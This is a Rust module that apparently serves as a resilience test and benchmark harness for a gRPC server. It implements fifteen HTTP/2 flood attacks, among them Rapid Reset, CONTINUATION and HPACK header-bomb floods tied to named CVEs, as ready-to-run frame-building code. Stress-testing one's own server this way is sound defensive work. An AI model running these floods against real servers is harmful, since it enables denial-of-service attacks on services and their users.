//! Floods: what one connection can do to a server by the protocol alone, as data for tests and for the benchmark.

use std::{
    io,
    sync::atomic::{AtomicBool, Ordering},
    time::{Duration, Instant},
};

use fedbasin_proto::v1::DownloadRequest;
use prost::Message as _;

use crate::h2::{End, Raw, flag, frame, grpc_headers, header_block, kind, message};

/// A server that is attacked.
#[derive(Debug, Clone)]
pub struct Target {
    /// Its gRPC edge.
    pub grpc: String,
    /// Its HTTP edge.
    pub http: String,
    /// A token that opens something: an attacker may be a site.
    pub token: String,
    /// A checkpoint that its site may download.
    pub digest: String,
}

/// Settings of HTTP/2: what a peer may send ahead on a stream.
const INITIAL_WINDOW: u16 = 4;

/// Frames that are sent at once, and how long a connection waits then: up to 100,000 frames a second, which a server's limits let through
/// at a hundredth of that, and which cost a machine that has to send them, too, little.
const BATCH: u32 = 500;
const PAUSE: Duration = Duration::from_millis(5);

/// What a connection does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams are opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// Headers that never end (CVE-2024-27316 and others).
    Continuation,
    /// Streams are opened and then broken so that the server resets them (CVE-2025-8671).
    MadeYouReset,
    /// Questions that must be answered (CVE-2019-9512), and the answers are read.
    Ping,
    /// Answers to questions that nobody asked.
    Pong,
    /// Settings that must be acknowledged (CVE-2019-9515).
    Settings,
    /// Priorities that change all the time (CVE-2019-9513).
    Priority,
    /// Leave to send, byte by byte.
    WindowUpdate,
    /// Data frames of one byte (CVE-2019-9518).
    SmallData,
    /// Headers larger than is taken, again and again.
    LargeHeaders,
    /// Headers that are packed small and are large when unpacked (CVE-2016-6581).
    HeaderBomb,
    /// Calls whose token opens nothing.
    BadToken,
    /// Downloads that nobody takes.
    NeverReads,
    /// Uploads and other calls whose messages come a byte at a time, ten a second.
    Drip,
    /// The HTTP edge's readiness, asked without a pause.
    Readiness,
}

/// All of them.
pub const FLOODS: [Flood; 15] = [
    Flood::RapidReset,
    Flood::Continuation,
    Flood::MadeYouReset,
    Flood::Ping,
    Flood::Pong,
    Flood::Settings,
    Flood::Priority,
    Flood::WindowUpdate,
    Flood::SmallData,
    Flood::LargeHeaders,
    Flood::HeaderBomb,
    Flood::BadToken,
    Flood::NeverReads,
    Flood::Drip,
    Flood::Readiness,
];

/// Sends bytes; tells whether the server took them. It may let a flood wait, which gives up then.
async fn send(raw: &mut Raw, bytes: &[u8], stop: &AtomicBool) -> bool {
    let sending = raw.send(bytes);
    tokio::pin!(sending);
    loop {
        match tokio::time::timeout(20 * PAUSE, &mut sending).await {
            Ok(sent) => return sent.is_ok(),
            Err(_) if stop.load(Ordering::Relaxed) => return true,
            Err(_) => {}
        }
    }
}

impl Flood {
    /// Does it on one connection until the server ends it or `stop` is set. Tells how many frames were sent, and how it ended.
    ///
    /// # Errors
    /// No connection could be made.
    pub async fn run(self, target: &Target, stop: &AtomicBool) -> io::Result<(u64, End)> {
        let url = if self == Self::Readiness { &target.http } else { &target.grpc };
        let settings: &[_] = if self == Self::NeverReads { &[(INITIAL_WINDOW, 0)] } else { &[] };
        let mut raw = Raw::with_settings(url, settings).await?;
        let (mut sent, mut stream, mut end) = (0, 1, End::default());
        let begun = self.begin(target);
        if !begun.is_empty() && raw.send(&begun).await.is_ok() {
            (sent, stream) = (1, 3);
        }
        let mut over = false;
        while !over && !stop.load(Ordering::Relaxed) {
            let (bytes, frames) = self.batch(target, &mut stream);
            if frames > 0 {
                over = !send(&mut raw, &bytes, stop).await;
                sent += u64::from(frames);
            }
            // What comes meanwhile.
            let wait = if frames == 0 || self == Self::Drip { 20 * PAUSE } else { PAUSE };
            let until = Instant::now() + wait;
            while let Some(frame) = raw.next_within(until.saturating_duration_since(Instant::now())).await {
                end.note(&frame);
                over |= frame.kind == kind::GOAWAY;
            }
            tokio::time::sleep_until(until.into()).await;
            over |= raw.is_closed().await;
        }
        if over {
            // What the server said before it ended the connection.
            while let Some(frame) = raw.next_within(Duration::from_secs(5)).await {
                end.note(&frame);
            }
        }
        Ok((sent, end))
    }

    /// What comes first on the connection, on stream 1.
    fn begin(self, target: &Target) -> Vec<u8> {
        let send_update = grpc_headers("/fedbasin.v1.FedBasin/SendUpdate", &target.token);
        match self {
            Self::Continuation => frame(kind::HEADERS, 0, 1, &send_update),
            Self::WindowUpdate | Self::SmallData => frame(kind::HEADERS, flag::END_HEADERS, 1, &send_update),
            _ => Vec::new(),
        }
    }

    /// The next frames, and how many.
    fn batch(self, target: &Target, stream: &mut u32) -> (Vec<u8>, u32) {
        let is_first = *stream == 1;
        let mut dripping = *stream;
        let mut next = || {
            *stream += 2;
            *stream - 2
        };
        let open = |stream, flags, path: &str, token: &str| {
            frame(kind::HEADERS, flag::END_HEADERS | flags, stream, &grpc_headers(path, token))
        };
        let list_runs = "/fedbasin.v1.FedBasin/ListRuns";
        let cancel = 8_u32.to_be_bytes();
        let mut one = || match self {
            Self::RapidReset => {
                let stream = next();
                let opened = open(stream, 0, list_runs, &target.token);
                [opened, frame(kind::RST_STREAM, 0, stream, &cancel)].concat()
            }
            Self::Continuation => frame(kind::CONTINUATION, 0, 1, &header_block(&[("x", "y")])),
            Self::MadeYouReset => {
                let stream = next();
                let opened = open(stream, 0, list_runs, &target.token);
                // More leave to send than a window can hold.
                let broken = frame(kind::WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes());
                [opened, broken].concat()
            }
            Self::Ping => frame(kind::PING, 0, 0, b"flooding"),
            Self::Pong => frame(kind::PING, flag::ACK, 0, b"flooding"),
            Self::Settings => frame(kind::SETTINGS, 0, 0, &[]),
            Self::Priority => frame(kind::PRIORITY, 0, next(), &[0, 0, 0, 0, 7]),
            Self::WindowUpdate => frame(kind::WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()),
            Self::SmallData => frame(kind::DATA, 0, 1, &[0]),
            Self::LargeHeaders => {
                let value = "x".repeat(15_000);
                let block =
                    [grpc_headers(list_runs, ""), header_block(&[("a", &value), ("b", &value)])].concat();
                let (first, rest) = block.split_at(16_000);
                let stream = next();
                let last = frame(kind::CONTINUATION, flag::END_HEADERS, stream, rest);
                [frame(kind::HEADERS, flag::END_STREAM, stream, first), last].concat()
            }
            Self::HeaderBomb => {
                // Remembered once (4,000 bytes), then named by one byte each (RFC 7541, 6.1: index 62).
                let remembered = header_block(&[("a", &"x".repeat(4000))]);
                let block = [&[0x40], &remembered[1..], &[0x80 | 62; 4000]].concat();
                frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, next(), &block)
            }
            Self::BadToken => {
                // Made like a token, as those before checksums were: each is looked up.
                let token = format!("fbs_{:043}", next());
                open(next(), flag::END_STREAM, list_runs, &token)
            }
            Self::NeverReads => {
                let stream = next();
                let request = DownloadRequest { digest: target.digest.clone(), offset: 0 }.encode_to_vec();
                let opened = open(stream, 0, "/fedbasin.v1.FedBasin/Download", &target.token);
                [opened, frame(kind::DATA, flag::END_STREAM, stream, &message(&request))].concat()
            }
            Self::Drip if is_first => {
                let stream = next();
                let rpc = if stream % 4 == 1 { "SendUpdate" } else { "BeginUpdate" };
                let opened = open(stream, 0, &format!("/fedbasin.v1.FedBasin/{rpc}"), &target.token);
                // The message is to be of 200 bytes.
                [opened, frame(kind::DATA, 0, stream, &[0, 0, 0, 0, 200])].concat()
            }
            Self::Drip => {
                dripping -= 2;
                frame(kind::DATA, 0, dripping, &[7])
            }
            Self::Readiness => {
                let headers = [
                    (":method", "GET"),
                    (":scheme", "http"),
                    (":path", "/readyz"),
                    (":authority", "localhost"),
                ];
                let flags = flag::END_HEADERS | flag::END_STREAM;
                frame(kind::HEADERS, flags, next(), &header_block(&headers))
            }
        };
        // As many as a peer that keeps to the settings may have open; of these each is answered.
        let count = match self {
            Self::NeverReads => u32::from(is_first) * 60,
            Self::Drip => 60,
            Self::BadToken | Self::Readiness | Self::LargeHeaders => 50,
            Self::HeaderBomb => 1,
            _ => BATCH,
        };
        let bytes = (0..count).flat_map(|_| one()).collect();
        (bytes, count)
    }
}
